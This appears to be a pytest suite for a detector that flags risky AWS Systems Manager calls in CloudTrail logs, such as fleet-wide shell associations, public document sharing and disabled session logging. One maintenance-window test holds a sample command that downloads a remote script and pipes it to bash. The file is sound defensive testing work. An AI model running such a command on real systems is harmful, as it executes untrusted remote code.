"""Issue 12's call models and stateless detections, beyond what the event files show."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detections.association_runs_code import AssociationRunsCodeDetection
from detections.document_shared import DocumentSharedDetection
from detections.session_logging_disabled import SessionLoggingDisabledDetection
from ssm_detect.execution_calls import (
    AssociationCall,
    MaintenanceWindowTaskCall,
    execution_call_of,
)
from ssm_detect.ingest import records_in, to_event
from ssm_detect.models.cloudtrail import CloudTrailRecord
from ssm_detect.principal import PrincipalKeying
from ssm_detect.settings import Settings
from ssm_detect.ssm_event import SsmEvent
from tests.conftest import load_event


def event_from(name: str, **changes: Any) -> SsmEvent:
    """The event file's record, with `requestParameters` fields replaced by `changes`."""
    (raw,) = list(records_in(load_event(name)))
    raw = copy.deepcopy(raw)
    raw["requestParameters"].update(changes)
    event = to_event(raw, PrincipalKeying.ROLE)
    assert isinstance(event, SsmEvent)
    return event


def test_a_malformed_field_is_dropped_and_named_not_the_whole_call() -> None:
    event = event_from("create_association_shell_all_instances.json", targets=42)
    call = event.call
    assert isinstance(call, AssociationCall)
    assert "targets" in call.malformed_fields
    # The response's targets still say where it runs.
    assert call.associations[0].targets[0].values == ("*",)
    verdict = AssociationRunsCodeDetection().evaluate(event, Settings(), {})
    assert verdict is not None
    assert verdict.context["malformed_fields"] == ["targets"]


@settings(max_examples=150, deadline=None)
@given(
    name=st.sampled_from(
        [
            "create_association_shell_all_instances.json",
            "create_association_batch_customer_document_tag.json",
            "start_automation_runbook_commands_download.json",
            "start_change_request_runbook_commands.json",
            "register_task_maintenance_window_run_shell.json",
            "modify_document_permission_public.json",
            "update_document_session_preferences_logging_off.json",
            "update_document_default_version.json",
            "update_service_setting_public_sharing_enable.json",
        ]
    ),
    field=st.text(min_size=1, max_size=30),
    value=st.one_of(
        st.none(),
        st.integers(),
        st.booleans(),
        st.text(max_size=50),
        st.lists(st.one_of(st.integers(), st.text(max_size=5), st.none()), max_size=5),
        st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
    ),
)
def test_any_odd_field_value_never_makes_a_recognised_call_disappear(
    name: str, field: str, value: object
) -> None:
    (raw,) = list(records_in(load_event(name)))
    record = CloudTrailRecord.model_validate(raw)
    fields = [*(raw["requestParameters"] or {}), field]
    for target in fields:
        request = {**(raw["requestParameters"] or {}), target: value}
        changed = record.model_copy(update={"request_parameters": request})
        assert execution_call_of(changed) is not None


def test_shares_inside_the_trusted_accounts_are_quiet() -> None:
    event = event_from("modify_document_permission_foreign_account.json")
    detection = DocumentSharedDetection()
    assert detection.evaluate(event, Settings(), {}) is not None
    trusting = Settings(trusted_accounts=frozenset({"999988887777"}))
    assert detection.evaluate(event, trusting, {}) is None


def preferences(**inputs: object) -> str:
    base: dict[str, object] = {
        "s3BucketName": "logs",
        "s3EncryptionEnabled": True,
        "cloudWatchLogGroupName": "/ssm/sessions",
        "cloudWatchEncryptionEnabled": True,
    }
    return json.dumps({"schemaVersion": "1.0", "inputs": {**base, **inputs}})


@pytest.mark.parametrize(
    ("inputs", "fires"),
    [
        ({}, False),
        ({"s3BucketName": ""}, False),
        ({"s3BucketName": "", "cloudWatchLogGroupName": ""}, True),
        ({"s3EncryptionEnabled": False}, True),
        ({"cloudWatchEncryptionEnabled": "false"}, True),
        ({"s3BucketName": "", "s3EncryptionEnabled": False}, False),
    ],
)
def test_session_logging_is_judged_on_destinations_and_encryption(
    inputs: dict[str, object], fires: bool
) -> None:
    event = event_from(
        "update_document_session_preferences_logging_on.json", content=preferences(**inputs)
    )
    verdict = SessionLoggingDisabledDetection().evaluate(event, Settings(), {})
    assert (verdict is not None) is fires
    if verdict is not None:
        assert verdict.severity == "HIGH"


def test_session_preferences_in_yaml_are_read_too() -> None:
    content = "schemaVersion: '1.0'\ninputs:\n  s3BucketName: ''\n  cloudWatchLogGroupName: ''\n"
    event = event_from("update_document_session_preferences_logging_on.json", content=content)
    verdict = SessionLoggingDisabledDetection().evaluate(event, Settings(), {})
    assert verdict is not None
    assert verdict.severity == "HIGH"


def test_batch_entries_take_their_association_ids_from_the_response() -> None:
    event = event_from("create_association_batch_customer_document_tag.json")
    call = event.call
    assert isinstance(call, AssociationCall)
    ids = [a.association_id for a in call.associations]
    assert ids[1] == "0c9d8e7f-aaaa-bbbb-cccc-ddddeeeeffff"
    verdict = AssociationRunsCodeDetection().evaluate(event, Settings(), {})
    assert verdict is not None
    assert verdict.context["document_name"] == "Ops-CollectDiagnostics"


def test_maintenance_window_parameters_come_from_wherever_the_caller_put_them() -> None:
    event = event_from("register_task_maintenance_window_run_shell.json")
    call = event.call
    assert isinstance(call, MaintenanceWindowTaskCall)
    assert call.task.parameters == {
        "commands": ['bash -c "$(curl -fsSL https://203.0.113.50/m.sh)"']
    }


def test_a_batch_is_judged_on_its_most_severe_entry_and_lists_every_entry_that_runs_code() -> None:
    # GIVEN a batch whose first entry runs a customer document on one instance and whose
    # second runs AWS-RunShellScript on a tag (an AWS shell runner, fleet-wide: more severe)
    entries = [
        {"name": "Ops-CollectDiagnostics", "instanceId": "i-0aaaaaaaaaaaaaaa1"},
        {
            "name": "AWS-RunShellScript",
            "targets": [{"key": "tag:Env", "values": ["prod"]}],
            "parameters": {"commands": ["uptime"]},
        },
    ]
    event = event_from("create_association_batch_customer_document_tag.json", entries=entries)

    # WHEN it is judged
    verdict = AssociationRunsCodeDetection().evaluate(event, Settings(), {})

    # THEN the finding is the shell entry's, after the call's own context, with both listed
    assert verdict is not None
    assert verdict.context["document_name"] == "AWS-RunShellScript"
    assert list(verdict.context)[:3] == ["event_name", "source_ip", "user_agent"]
    assert [a["document_name"] for a in verdict.context["associations"]] == [
        "Ops-CollectDiagnostics",
        "AWS-RunShellScript",
    ]
    assert verdict.severity_reasons[0] == "AWS-RunShellScript runs the commands it is given"
